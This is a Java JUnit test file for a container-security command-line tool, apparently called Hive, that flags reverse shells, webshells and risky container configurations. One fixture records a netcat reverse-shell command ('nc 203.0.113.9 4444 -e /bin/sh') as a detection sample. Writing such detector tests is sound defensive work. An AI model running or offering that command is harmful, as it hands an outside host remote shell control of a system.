package io.hivesec.examples.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.hivesec.artifact.Content;
import io.hivesec.json.HiveModule;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Objects;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The command as a user meets it, with good input and bad. */
final class HiveCommandTest {
    /** A shell in a container connects to an outside host, in Tetragon's form; written for this test. */
    private static final String NC = """
            {"process_exec":{"process":{"exec_id":"b","pid":11,"uid":0,"cwd":"/","binary":"/usr/bin/nc","arguments":"203.0.113.9 4444 -e /bin/sh","start_time":"2026-01-02T03:04:05Z","docker":"c0ffee","pod":{"namespace":"shop","name":"web-1","container":{"id":"containerd://c0ffee","name":"web","image":{"id":"sha256:00","name":"web:1"}}},"parent_exec_id":"a"},"parent":{"exec_id":"a","pid":10,"binary":"/bin/bash","arguments":"","start_time":"2026-01-02T03:04:04Z"}},"node_name":"n","time":"2026-01-02T03:04:05Z"}
            """;

    private static final String LS = """
            {"type":"process_started","time":"2026-01-02T03:04:05Z","process":{"pid":5,"executable":"/bin/ls","arguments":["ls"]}}
            """;

    @TempDir
    private Path folder;

    @Test
    void help_everySubcommand_isListed() {
        Run run = Run.hive("--help");
        assertThat(run.status()).isZero();
        assertThat(run.out())
                .contains(
                        "demo",
                        "scan",
                        "watch",
                        "inspect",
                        "jvm",
                        "profile",
                        "respond",
                        "whitelist",
                        "rules",
                        "console");
    }

    @Test
    void watch_reverseShell_isOneAlertWithContainerProcessTargetAndTree() throws IOException {
        Run run = Run.hive("watch", "--from", "tetragon", "--format", "jsonl", write("nc.jsonl", NC));
        assertThat(run.status()).isEqualTo(ExitStatus.FOUND);
        JsonNode alert =
                HiveModule.mapper().readTree(run.out().lines().findFirst().orElseThrow());
        assertThat(alert.path("type").asText()).isEqualTo("reverse_shell");
        assertThat(alert.path("container").path("pod").asText()).isEqualTo("web-1");
        assertThat(alert.path("process").path("executable").asText()).isEqualTo("/usr/bin/nc");
        assertThat(alert.path("target").path("ip").asText()).isEqualTo("203.0.113.9");
        assertThat(alert.path("target").path("port").asInt()).isEqualTo(4444);
        assertThat(alert.path("target").path("scope").asText()).isEqualTo("external");
        assertThat(alert.path("ancestors").get(0).path("executable").asText()).isEqualTo("/bin/bash");
        assertThat(run.err()).contains("\"read\":1,\"understood\":1,\"skipped\":0,\"malformed\":0,\"alerts\":1");
    }

    @Test
    void formats_forOtherProducts_sayTheSame() throws IOException {
        Path events = write("nc.jsonl", NC);
        Run sarif = Run.hive("watch", "--format", "sarif", events);
        assertThat(sarif.status()).isEqualTo(ExitStatus.FOUND);
        JsonNode run = HiveModule.mapper().readTree(sarif.out()).path("runs").get(0);
        assertThat(run.path("results").get(0).path("ruleId").asText()).startsWith("reverse-shell.");
        Run ocsf = Run.hive("watch", "--format", "ocsf", events);
        JsonNode finding = HiveModule.mapper().readTree(ocsf.out());
        assertThat(finding.path("class_uid").asInt()).isEqualTo(2004);
        assertThat(finding.path("finding_info").path("types").get(0).asText()).isEqualTo("reverse_shell");
        Run html = Run.hive("watch", "--format", "html", "--lang", "zh", events);
        assertThat(html.out()).startsWith("<!doctype html>").contains("203.0.113.9", "进程树");
        Path page = folder.resolve("report.html");
        assertThat(Run.hive("watch", "--format", "html", "--output", page, events)
                        .out())
                .isEmpty();
        assertThat(page).content().contains("203.0.113.9");
    }

    @Test
    void inspect_asSarif_hasAResultForEachRisk() throws IOException {
        Path good = folder.resolve("good.json");
        try (var in = DemoCommand.class.getResourceAsStream("demo/privileged.json")) {
            Files.write(good, Objects.requireNonNull(in).readAllBytes());
        }
        Run run = Run.hive("inspect", "--format", "sarif", good);
        assertThat(run.status()).isEqualTo(ExitStatus.FOUND);
        assertThat(run.out()).contains("\"version\":\"2.1.0\"", "escape-risk.");
        Run broken = Run.hive("inspect", "--format", "sarif", write("bad.yaml", "a: [\n"));
        assertThat(broken.status()).isEqualTo(ExitStatus.COULD_NOT_RUN);
        assertThat(broken.out()).contains("\"executionSuccessful\":false");
    }

    @Test
    void watch_whitelist_silencesItAndSaysSo() throws IOException {
        Path rules = write("trusted.json", """
                {"version":1,"rules":[{"id":"nc","type":"reverse_shell","description":"our own drill","creator":"ann",
                 "created":"2026-01-02T00:00:00Z","conditions":{"processes":"nc","targetHosts":"203.0.113.0/24"}}]}
                """);
        Path events = write("nc.jsonl", NC);
        Run quiet = Run.hive("watch", "--whitelist", rules, "--format", "jsonl", events);
        assertThat(quiet.status()).isZero();
        assertThat(quiet.out()).isEmpty();
        Run shown = Run.hive("watch", "--whitelist", rules, "--show-whitelisted", "--format", "jsonl", events);
        JsonNode alert =
                HiveModule.mapper().readTree(shown.out().lines().findFirst().orElseThrow());
        assertThat(alert.path("whitelisted").path("rule").asText()).isEqualTo("nc");
        assertThat(alert.path("whitelisted").path("reason").asText()).isEqualTo("our own drill");
    }

    @Test
    void watch_jsonCutInHalf_saysWhereAndReadsTheRest() throws IOException {
        String cut = NC.substring(0, NC.length() / 2);
        Run run = Run.hive("watch", "--from", "tetragon", write("cut.jsonl", NC + cut + "\n" + NC));
        assertThat(run.status()).isEqualTo(ExitStatus.FOUND);
        assertThat(run.err()).contains("cut.jsonl:2: ").contains("\"read\":3,\"understood\":2");
        assertOneLineEach(run);
    }

    @Test
    void watch_lineOfManyMegabytes_isCountedAndTheRestIsRead() throws IOException {
        Run run = Run.hive("watch", "--from", "hive", write("long.jsonl", LS + "x".repeat(64 << 20) + "\n" + LS));
        assertThat(run.err())
                .contains("long.jsonl:2: ")
                .contains("\"understood\":2")
                .contains("\"malformed\":1");
        assertOneLineEach(run);
    }

    @Test
    void watch_nothingUnderstood_couldNotRun() throws IOException {
        Run run = Run.hive("watch", "--from", "tetragon", write("no.jsonl", "no events here\n"));
        assertThat(run.status()).isEqualTo(ExitStatus.COULD_NOT_RUN);
        assertOneLineEach(run);
    }

    @Test
    void watch_missingFileOrDirectory_isOneClearLine() {
        Path missing = folder.resolve("missing.jsonl");
        assertRefused(Run.hive("watch", missing), missing + ": no such file");
        assertRefused(Run.hive("watch", folder), folder + ": is a directory, not a file");
    }

    @Test
    void watch_unknownFormat_isRefusedWithTheChoices() {
        Run run = Run.hive("watch", "--from", "carrier-pigeon");
        assertThat(run.status()).isEqualTo(ExitStatus.COULD_NOT_RUN);
        assertThat(run.err()).contains("tetragon").contains("carrier-pigeon").hasLineCount(1);
    }

    @Test
    void watch_badWhitelist_isRefusedWithFileRuleAndField() throws IOException {
        Path rules = write("bad.json", """
                {"version":1,"rules":[{"id":"nc","type":"reverse_shell","creator":"ann",
                 "created":"2026-01-02T00:00:00Z","conditions":{"targetPorts":"70000"}}]}
                """);
        Run run = Run.hive("watch", "--whitelist", rules, write("nc.jsonl", NC));
        assertThat(run.status()).isEqualTo(ExitStatus.COULD_NOT_RUN);
        assertThat(run.err()).contains("bad.json", "nc", "targetPorts", "70000");
    }

    @Test
    void scan_specimens_areFoundAndTheHarmlessOneIsNot() throws IOException {
        for (var sample : DemoSamples.all()) {
            Content content = sample.content();
            String name = sample.name().startsWith("org.")
                    ? "LogFilter.class"
                    : sample.name().replace('/', '-');
            Files.write(folder.resolve(name), content.read(1 << 20));
        }
        Run run = Run.hive("scan", "--format", "jsonl", folder);
        assertThat(run.status()).isEqualTo(ExitStatus.FOUND);
        assertThat(verdict(run, "uploads-avatar.jsp")).isEqualTo("MALICIOUS");
        assertThat(verdict(run, "pages-hello.jsp")).isEqualTo("BENIGN");
        assertThat(verdict(run, "LogFilter.class")).isEqualTo("MALICIOUS");
    }

    @Test
    void scan_randomClassAndDeepPage_areNeverBenign() throws IOException {
        byte[] random = new byte[4096];
        new Random(1).nextBytes(random);
        byte[] magic = {(byte) 0xca, (byte) 0xfe, (byte) 0xba, (byte) 0xbe};
        System.arraycopy(magic, 0, random, 0, magic.length);
        Files.write(folder.resolve("random.class"), random);
        write("deep.jsp", "<% int x = " + "(".repeat(10_000) + "1" + ")".repeat(10_000) + "; %>");
        Run run = Run.hive("scan", "--format", "jsonl", folder);
        assertThat(verdict(run, "random.class")).isEqualTo("UNKNOWN");
        assertThat(verdict(run, "deep.jsp")).isEqualTo("UNKNOWN");
        assertThat(run.err()).contains("random.class", "deep.jsp", "nesting deeper than");
        assertOneLineEach(run);
    }

    @Test
    void scan_missingPathOrUnknownEngine_isOneClearLine() {
        Path missing = folder.resolve("missing");
        assertRefused(Run.hive("scan", missing), missing + ": no such file");
        assertRefused(
                Run.hive("scan", "--engine", "luck", folder), "--engine: one of memshell, virus, webshell, not 'luck'");
    }

    @Test
    void scan_enginesFile_fillsTheColumns() throws IOException {
        Path engines = write("engines.json", """
                {"version":1,"engines":[
                 {"name":"grep","type":"command","command":["/usr/bin/env","grep","-c","hive-marker","{file}"],
                  "exitCodes":{"0":"MALICIOUS","1":"CLEAN"},"patterns":[]},
                 {"name":"gone","type":"clamd","address":"unix:/nonexistent/clamd.sock"}]}
                """);
        Path marked = write("marked.bin", "a hive-marker in it");
        Run run = Run.hive("scan", "--engine", "virus", "--engines", engines, "--format", "jsonl", marked);
        assertThat(run.status()).isEqualTo(ExitStatus.FOUND);
        assertThat(run.out())
                .contains("1/2 (+1 error)")
                .contains("\"engine\":\"virus/grep\",\"verdict\":\"MALICIOUS\"")
                .contains("\"engine\":\"virus/gone\",\"verdict\":\"ERROR\"");
        Path plain = write("plain.bin", "nothing in it");
        Run unjudged = Run.hive("scan", "--engine", "virus", "--engines", engines, "--format", "jsonl", plain);
        assertThat(verdict(unjudged, "plain.bin")).isEqualTo("UNKNOWN");
    }

    @Test
    void scan_badEnginesFile_isRefusedWithFileEngineAndField() throws IOException {
        Path engines = write("engines.json", "{\"version\":1,\"engines\":[{\"name\":\"av\",\"type\":\"clamd\"}]}");
        assertRefused(Run.hive("scan", "--engines", engines, folder), engines + ": engine 'av': address: missing");
    }

    @Test
    void inspect_badFileBesideAGoodOne_judgesTheGoodOne() throws IOException {
        Path good = folder.resolve("good.json");
        try (var in = DemoCommand.class.getResourceAsStream("demo/privileged.json")) {
            Files.write(good, Objects.requireNonNull(in).readAllBytes());
        }
        Run run = Run.hive("inspect", "--format", "jsonl", write("bad.yaml", "a: [\n"), good);
        assertThat(run.status()).isEqualTo(ExitStatus.COULD_NOT_RUN);
        assertThat(run.out()).contains("\"risk\":\"critical\"");
        assertThat(run.err()).contains("bad.yaml");
        assertOneLineEach(run);
    }

    @Test
    void inspect_folder_judgesTheDescriptionsInIt() throws IOException {
        Path below = Files.createDirectories(folder.resolve("manifests/below"));
        Files.writeString(
                below.resolve("pod.yml"), "kind: Pod\nspec: {hostPID: true, containers: [{name: a, image: a}]}\n");
        Files.writeString(below.resolve("compose.YAML"), "services: {b: {image: b}}\n");
        Files.writeString(below.resolve("package.json"), "{\"name\": \"c\"}");
        Files.writeString(below.resolve("ci.yaml"), "jobs:\n  d:\n    services: {db: {image: postgres}}\n");
        Files.createSymbolicLink(below.resolve("again.yaml"), below.resolve("pod.yml"));

        Run run = Run.hive("inspect", "--format", "jsonl", folder.resolve("manifests"));

        assertThat(run.status()).isEqualTo(ExitStatus.FOUND);
        assertThat(run.out().lines()).hasSize(2).anyMatch(line -> line.contains("\"risk\":\"high\""));
        assertThat(run.err()).contains("2 descriptions read, 2 other files");
    }

    @Test
    void inspect_standardInput_isReadAsAFileIs() {
        InputStream before = System.in;
        System.setIn(new ByteArrayInputStream(
                "kind: Pod\nspec: {hostPID: true, containers: [{name: a}]}".getBytes(StandardCharsets.UTF_8)));
        try {
            assertThat(Run.hive("inspect", "-").status()).isEqualTo(ExitStatus.FOUND);
        } finally {
            System.setIn(before);
        }
    }

    @Test
    void inspect_noEngineAtTheSocket_isOneClearLineAndTheFilesAreJudged() throws IOException {
        Path socket = folder.resolve("docker.sock");
        Path good = folder.resolve("good.json");
        try (var in = DemoCommand.class.getResourceAsStream("demo/privileged.json")) {
            Files.write(good, Objects.requireNonNull(in).readAllBytes());
        }
        Run run = Run.hive("inspect", "--format", "jsonl", "--docker=" + socket, good);
        assertThat(run.status()).isEqualTo(ExitStatus.COULD_NOT_RUN);
        assertThat(run.out()).contains("\"risk\":\"critical\"");
        assertThat(run.err())
                .startsWith("hive: --docker " + socket + ": cannot connect")
                .hasLineCount(1);
    }

    @Test
    void inspect_nothingToInspect_isRefused() {
        Run run = Run.hive("inspect");
        assertThat(run.status()).isEqualTo(ExitStatus.COULD_NOT_RUN);
        assertThat(run.err()).contains("Missing a FILE or --docker");
    }

    @Test
    void whitelistCheck_goodFile_saysHowManyRules() throws IOException {
        Path rules = folder.resolve("rules.json");
        try (var in = DemoCommand.class.getResourceAsStream("demo/whitelist.json")) {
            Files.write(rules, Objects.requireNonNull(in).readAllBytes());
        }
        Run run = Run.hive("whitelist", "check", rules);
        assertThat(run.status()).isZero();
        assertThat(run.out()).contains("1 rule(s)");
    }

    @Test
    void rules_everyRule_isALine() {
        Run run = Run.hive("rules");
        assertThat(run.status()).isZero();
        assertThat(run.out())
                .contains("malicious-command.shared-memory-program")
                .contains("reverse-shell.");
    }

    @Test
    void demo_inChinese_saysItAllInChinese() throws IOException {
        Run run = Run.hive("demo", "--lang", "zh", "--output", folder);
        assertThat(run.status()).as(run.err()).isEqualTo(ExitStatus.FOUND);
        assertThat(run.out())
                .contains("反弹 Shell", "进程树", "研判", "目标范围", "由规则 edge-proxy 放行", "自研引擎")
                .doesNotContain("Reverse shell", "Process tree");
        assertThat(Files.readString(folder.resolve("report.html"))).contains("<html lang=\"zh\">");
    }

    @Test
    void inspect_inChinese_namesTheRiskInChinese() throws IOException {
        try (var in = DemoCommand.class.getResourceAsStream("demo/privileged.json")) {
            Files.write(folder.resolve("privileged.json"), in.readAllBytes());
        }
        Run text = Run.hive("inspect", "--lang", "zh", folder.resolve("privileged.json"));
        assertThat(text.out()).startsWith("严重").contains("特权容器");
        Run lines = Run.hive("inspect", "--lang", "zh", "--format", "jsonl", folder.resolve("privileged.json"));
        assertThat(lines.out()).contains("\"risk\":\"critical\"", "\"title\":\"特权容器\"");
    }

    @Test
    void watch_asCsv_isALineAnAlertBelowAHeader() throws IOException {
        Run run = Run.hive("watch", "--from", "tetragon", "--format", "csv", write("nc.jsonl", NC));
        assertThat(run.status()).as(run.err()).isEqualTo(ExitStatus.FOUND);
        assertThat(run.out().lines().toList())
                .hasSize(2)
                .first()
                .asString()
                .startsWith("id,type,rule,")
                .contains(",artifact,md5,sha256,");
        assertThat(run.out()).contains(",reverse_shell,");
    }

    @Test
    void alerts_ofAnyCommand_areWrittenForTuning() throws IOException {
        try (var in = DemoCommand.class.getResourceAsStream("demo/privileged.json")) {
            Files.write(folder.resolve("privileged.json"), in.readAllBytes());
        }
        Path alerts = folder.resolve("alerts.jsonl");
        Run.hive("inspect", "--alerts", alerts, folder.resolve("privileged.json"));
        Run suggested = Run.hive("whitelist", "suggest", "--alerts", alerts, "--creator", "ann");
        assertThat(suggested.status()).as(suggested.err()).isEqualTo(ExitStatus.NOTHING_FOUND);
        assertThat(suggested.out()).contains("escape_risk", "\"ann\"");
    }

    @Test
    void watch_rulesWithTwoFaults_aLineEach() throws IOException {
        Path rules = write(
                "bad.json",
                "{\"version\":1,\"rules\":[{\"id\":\"a\",\"type\":\"luck\"},{\"id\":\"b\",\"type\":\"luck\"}]}");
        Run run = Run.hive("watch", "--whitelist", rules, "--from", "tetragon", write("nc.jsonl", NC));
        assertThat(run.status()).isEqualTo(ExitStatus.COULD_NOT_RUN);
        assertThat(run.err().lines().toList()).hasSizeGreaterThan(1).allMatch(line -> line.startsWith("hive: "));
        assertThat(run.err()).doesNotContain("\uFFFD");
    }

    @Test
    void watch_recordsCutShort_doesNotSayThatNothingWasFoundInAllOfThem() throws IOException {
        Files.writeString(folder.resolve("cut.jsonl"), "{\"type\":\"process_sta");
        Run run = Run.hive("watch", "--from", "hive", folder.resolve("cut.jsonl"));
        assertThat(run.status()).isEqualTo(ExitStatus.COULD_NOT_RUN);
        assertThat(run.out()).contains("not everything could be");
    }

    @Test
    void demo_shippedData_findsShellPageClassAndContainer() throws IOException {
        Run run = Run.hive("demo", "--output", folder);
        assertThat(run.status()).isEqualTo(ExitStatus.FOUND);
        assertThat(run.out()).contains("Reverse shell", "avatar.jsp", "LogFilter", "Escape risk", "edge-proxy");
        JsonNode report =
                HiveModule.mapper().readTree(folder.resolve("report.json").toFile());
        assertThat(report.path("alerts").findValuesAsText("type"))
                .contains("reverse_shell", "web_backdoor", "memory_webshell", "escape_risk");
        assertThat(report.path("whitelisted")
                        .get(0)
                        .path("whitelisted")
                        .path("reason")
                        .asText())
                .contains("agreed with operations");
        assertThat(report.path("failures")).isEmpty();
    }

    @Test
    void watch_alertWithControlCharacters_printsNone() throws IOException {
        String colours =
                NC.replace("203.0.113.9 4444 -e /bin/sh", "203.0.113.9 4444 -e /bin/sh \\u001b[31m\\u009b31m\\u202e");
        Run run = Run.hive("watch", "--from", "tetragon", write("nc.jsonl", colours));
        assertThat(run.status()).isEqualTo(ExitStatus.FOUND);
        assertThat(run.out()).doesNotContain("\u001b", "\u009b", "\u202e");
    }

    private static String verdict(Run run, String name) throws IOException {
        for (String line : run.out().lines().toList()) {
            JsonNode json = HiveModule.mapper().readTree(line);
            if (json.path("artifact").asText().endsWith(name)) {
                return json.path("verdict").asText();
            }
        }
        throw new AssertionError("no line for " + name + " in " + run);
    }

    private Path write(String name, String text) throws IOException {
        return Files.write(folder.resolve(name), text.getBytes(StandardCharsets.UTF_8));
    }

    private static void assertRefused(Run run, String message) {
        assertThat(run.status()).isEqualTo(ExitStatus.COULD_NOT_RUN);
        assertThat(run.err()).isEqualToIgnoringNewLines("hive: " + message);
    }

    /** No stack trace reaches the terminal. */
    private static void assertOneLineEach(Run run) {
        assertThat(run.err().lines())
                .allSatisfy(line -> assertThat(line).doesNotStartWith("\tat ").doesNotContain("java.lang."));
    }

    @Test
    void rules_asJson_isOneDocument() throws IOException {
        JsonNode all = HiveModule.mapper()
                .readTree(Run.hive("rules", "--format", "json").out());
        assertThat(all.isArray()).isTrue();
        assertThat(Run.hive("rules", "--format", "jsonl").out().lines()).hasSize(all.size());
    }

    @ParameterizedTest
    @ValueSource(strings = {"--show-benign", "--alerts=x", "--whitelist=x", "--format=sarif"})
    void list_optionWithoutEffect_isRefused(String option) {
        assertThat(Run.hive("rules", option).status()).isEqualTo(ExitStatus.COULD_NOT_RUN);
        assertThat(Run.hive("jvm", "list", option).status()).isEqualTo(ExitStatus.COULD_NOT_RUN);
    }

    @Test
    void watch_recordsOfAnother_saysHowToTellThem() throws IOException {
        Run run = Run.hive("watch", "--from", "tracee", write("nc.jsonl", NC));
        assertThat(run.status()).isEqualTo(ExitStatus.COULD_NOT_RUN);
        assertThat(run.err()).contains("no record is of tracee; --from auto recognises who wrote them");
    }

    @Test
    void inspect_fileOfEvents_saysOnceThatItDescribesNothing() throws IOException {
        Run run = Run.hive("inspect", write("events.json", NC.repeat(50)));
        assertThat(run.status()).isEqualTo(ExitStatus.COULD_NOT_RUN);
        assertThat(run.err())
                .containsOnlyOnce("not a description that Hive knows")
                .contains(" (50 times)");
    }
}
